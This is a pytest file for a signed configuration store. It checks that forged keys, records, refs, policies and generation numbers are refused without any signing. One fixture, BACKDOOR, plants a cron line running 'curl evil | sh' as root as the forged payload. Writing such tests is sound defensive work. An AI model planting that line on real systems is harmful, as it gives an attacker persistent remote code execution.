"""The manager trusts only its operator's keys (issue 12, step 1): attacks by someone who can write
the store but holds no key, aimed at the *signer*.

Each scenario plants what the security review planted (a key under keys/, a replaced record, a
forged ref) and runs the real `regen` commands an administrator would run next. None may sign
over the forgery: the command refuses with one line and exit 2, `regen show` says NOT verified,
`regen fsck` reports the damage, and the store's ref and records are exactly as before.
"""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from regen.store import (
    MAX_NUMBER,
    Generation,
    Policy,
    SecretKey,
    Store,
    build_manifest,
    format_time,
    generate,
    layout,
    sign_envelope,
    utcnow,
    verify_generation,
)

from ..conftest import make_tree
from .conftest import Client, publish, spec_entries

POLICY = Policy(preserve=("home",), exclude=("tmp/**",))
G1 = {"etc/app.conf": "v1\n", "home": None}
G2 = {"etc/app.conf": "v2\n", "home": None}
BACKDOOR = {"etc/app.conf": "v1\n", "etc/cron.d/backdoor": "* * * * * root curl evil | sh\n", "home": None}


@pytest.fixture
def admin(tmp_path: Path, signing_key: SecretKey, key_files: tuple[Path, Path]) -> dict[str, Any]:
    """A file:// store with generations 1 and 2 of `stable` (2 published), signed by the admin key."""
    store = Store.init(f"file://{tmp_path / 'store'}")
    publish(store, signing_key, G1, number=1, policy=POLICY)
    publish(store, signing_key, G2, number=2, policy=POLICY)
    env = {"REGEN_STORE": store.url, "REGEN_KEY": str(key_files[0])}
    return {"store": store, "env": env, "root": tmp_path / "store"}


def regen(admin: dict[str, Any], run_regen: Any, *args: str, exit_code: int | None = 0) -> Any:
    return run_regen(*args, env=admin["env"], exit_code=exit_code)


def one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("regen: error: "), stderr
    return lines[0]


def store_files(root: Path) -> dict[str, bytes]:
    """Every record, ref and key file (not objects, not the lock): what a refused command must not touch."""
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and p.parts[len(root.parts)] in ("generations", "refs", "hosts", "keys")}


def forged_generation(store: Store, spec: dict[str, Any], *, number: int, key: SecretKey,
                      policy: Policy = POLICY, parent: int | None = None) -> bytes:
    entries, blobs = spec_entries(spec)
    for data in blobs.values():
        store.put(data)
    data, moid, _ = build_manifest(entries)
    store.put(data)
    gen = Generation(store.store_id, "stable", number, moid, format_time(utcnow()), parent, "innocent", policy, {})
    return sign_envelope(gen.to_record(), [key])


def test_keys_injection_then_rollback_signs_nothing(admin: dict[str, Any], run_regen: Any) -> None:
    """keys/ injection + replaced record 1: show says NOT verified, fsck finds it, rollback refuses."""
    store, root = admin["store"], admin["root"]
    attacker = generate()
    store.backend.write(layout.key_path(attacker.public.keyid), attacker.public.text().encode())
    store.backend.write(layout.generation_path("stable", 1), forged_generation(store, BACKDOOR, number=1,
                                                                                key=attacker))
    before = store_files(root)

    shown = json.loads(regen(admin, run_regen, "show", "1", "-c", "stable", "--json").stdout)
    assert shown["verified"] is False and "unknown key" in shown["verify_error"]
    res = regen(admin, run_regen, "fsck", "--no-data", "--json", exit_code=1)
    findings = json.loads(res.stdout)["findings"]
    assert {"generations/stable/0000000001.json", layout.key_path(attacker.public.keyid)} <= \
        {f["subject"] for f in findings}
    res = regen(admin, run_regen, "rollback", "-c", "stable", exit_code=2)
    line = one_line(res.stderr)
    assert "generation 1 of channel 'stable' does not verify with the trusted keys" in line, line
    assert store_files(root) == before  # nothing signed, the ref still names generation 2
    assert store.generation_numbers("stable") == [1, 2]


def test_trusted_key_option_is_the_only_other_trust(admin: dict[str, Any], run_regen: Any, tmp_path: Path) -> None:
    """A second publisher's key is trusted only when the operator names it with --trusted-key."""
    store = admin["store"]
    colleague = generate()
    store.backend.write(layout.generation_path("stable", 3), forged_generation(store, G1, number=3,
                                                                                key=colleague, parent=2))
    pub = tmp_path / "colleague.pub"
    pub.write_text(colleague.public.text())
    regen(admin, run_regen, "publish", "3", "-c", "stable", exit_code=2)
    assert json.loads(regen(admin, run_regen, "show", "3", "-c", "stable", "--json", "--trusted-key", str(pub))
                      .stdout)["verified"] is True
    regen(admin, run_regen, "publish", "3", "-c", "stable", "--trusted-key", str(pub))
    assert store.peek_generation(store.read_ref("stable") or b"").number == 3
    env = {**admin["env"], "REGEN_KEY": "", "REGEN_TRUSTED_KEYS": str(pub)}
    res = run_regen("fsck", "--no-data", "--json", env=env, exit_code=1)  # generations 1, 2: not the colleague's
    assert any("unknown key" in f["detail"] for f in json.loads(res.stdout)["findings"])
    res = run_regen("fsck", "--no-data", env={**env, "REGEN_TRUSTED_KEYS": ""}, exit_code=2)
    assert "no trusted key is configured" in one_line(res.stderr)


def test_forged_ref_number_cannot_burn_the_numbers(admin: dict[str, Any], run_regen: Any,
                                                    tmp_path: Path) -> None:
    """A ref claiming number 2**63-2 (its signature no longer verifies) steers nothing."""
    store, root = admin["store"], admin["root"]
    ref = json.loads(store.read_ref("stable") or b"")
    ref["signed"]["number"] = 2**63 - 2
    store.backend.write(layout.ref_path("stable"), json.dumps(ref).encode())
    store.backend.write(layout.generation_path("stable", 2**53 + 5), json.dumps(ref).encode())
    before = store_files(root)
    src = make_tree(tmp_path / "src", {"etc/app.conf": "v3\n", "home": None})
    res = regen(admin, run_regen, "snapshot", str(src), "-c", "stable", "-m", "v3", "--publish", exit_code=2)
    assert "refs/stable does not verify with the trusted keys" in one_line(res.stderr)
    assert store_files(root) == before
    # the administrator repairs the ref by publishing a verified generation; numbering ignores the forgery
    regen(admin, run_regen, "publish", "2", "-c", "stable")
    regen(admin, run_regen, "snapshot", str(src), "-c", "stable", "-m", "v3", "--publish")
    gen = verify_generation(store.read_ref("stable") or b"", {admin_key(admin).keyid: admin_key(admin)},
                            store_id=store.store_id, channel="stable")
    assert (gen.number, gen.parent) == (3, 2)


def admin_key(admin: dict[str, Any]) -> Any:
    from regen.store import load_secret_key

    return load_secret_key(admin["env"]["REGEN_KEY"]).public


def test_forged_ref_policy_is_not_inherited(admin: dict[str, Any], run_regen: Any, tmp_path: Path) -> None:
    """A ref whose policy says preserve [] / exclude usr/** is refused, with or without a keys/ file."""
    store, root = admin["store"], admin["root"]
    attacker = generate()
    store.backend.write(layout.key_path(attacker.public.keyid), attacker.public.text().encode())
    hostile = Policy(preserve=(), exclude=("usr/**",))
    store.backend.write(layout.ref_path("stable"), forged_generation(store, G2, number=2, key=attacker,
                                                                      policy=hostile, parent=1))
    before = store_files(root)
    src = make_tree(tmp_path / "src", {"etc/app.conf": "v3\n", "home": None})
    res = regen(admin, run_regen, "snapshot", str(src), "-c", "stable", "-m", "v3", exit_code=2)
    assert "refs/stable does not verify" in one_line(res.stderr) and "unknown key" in res.stderr
    assert store_files(root) == before
    regen(admin, run_regen, "publish", "2", "-c", "stable")  # repair: the verified record again
    out = json.loads(regen(admin, run_regen, "snapshot", str(src), "-c", "stable", "-m", "v3", "--json").stdout)
    assert out["policy"] == POLICY.as_dict() and out["policy_from"] == "generation 2"


def test_numbers_beyond_the_bound_are_refused_by_clients(admin: dict[str, Any], signing_key: SecretKey) -> None:
    """Even signed by the real key, a number above 2**53-1 is malformed (RecordInvalid) for clients."""
    from regen.store.errors import RecordInvalid

    store = admin["store"]
    env = forged_generation(store, G1, number=1, key=signing_key)
    record = json.loads(env)["signed"]
    for field, value in (("number", MAX_NUMBER + 1), ("parent", 2**63 - 2)):
        data = sign_envelope({**record, field: value}, [signing_key])
        with pytest.raises(RecordInvalid, match="above the limit"):
            verify_generation(data, {signing_key.public.keyid: signing_key.public}, store_id=store.store_id,
                              channel="stable")


@pytest.mark.slow
def test_burned_numbers_recovered_by_a_new_epoch(admin: dict[str, Any], run_regen: Any, signing_key: SecretKey,
                                                 key_files: tuple[Path, Path], tmp_path: Path) -> None:
    """A client that accepted the highest number updates again after `regen renumber` (signed epoch 1)."""
    store = admin["store"]
    publish(store, signing_key, G2, number=MAX_NUMBER, policy=POLICY)
    client = Client(tmp_path / "client", store.url, key_files[1])
    client.root.mkdir(parents=True)
    client.write_config()
    client.regend("run", "--once")
    assert (client.root / "etc/app.conf").read_text() == "v2\n"
    src = make_tree(tmp_path / "src", {"etc/app.conf": "v3\n", "home": None})
    res = regen(admin, run_regen, "snapshot", str(src), "-c", "stable", "-m", "v3", "--publish", exit_code=2)
    assert "regen renumber --channel stable" in one_line(res.stderr)
    out = json.loads(regen(admin, run_regen, "renumber", "-c", "stable", "--json").stdout)
    assert (out["number"], out["epoch"]) == (1, 1)
    regen(admin, run_regen, "snapshot", str(src), "-c", "stable", "-m", "v3", "--publish")
    client.regend("run", "--once")
    assert (client.root / "etc/app.conf").read_text() == "v3\n"
    assert client.last_report()["generation_after"] == 2


def test_epoch_record_is_refused_below_the_accepted_epoch(admin: dict[str, Any], signing_key: SecretKey) -> None:
    """Rollback protection orders by (epoch, number): a lower epoch is refused whatever its number."""
    from regen.store.errors import RollbackRefused

    store = admin["store"]
    record = json.loads(forged_generation(store, G1, number=50, key=signing_key))["signed"]
    trusted = {signing_key.public.keyid: signing_key.public}
    old = sign_envelope(record, [signing_key])
    new = sign_envelope(replace(Generation.from_record(record), number=3, epoch=1).to_record(), [signing_key])
    gen = verify_generation(new, trusted, store_id=store.store_id, channel="stable", min_number=50, min_epoch=0)
    assert gen.order == (1, 3)
    with pytest.raises(RollbackRefused, match="epoch 0"):
        verify_generation(old, trusted, store_id=store.store_id, channel="stable", min_number=3, min_epoch=1)
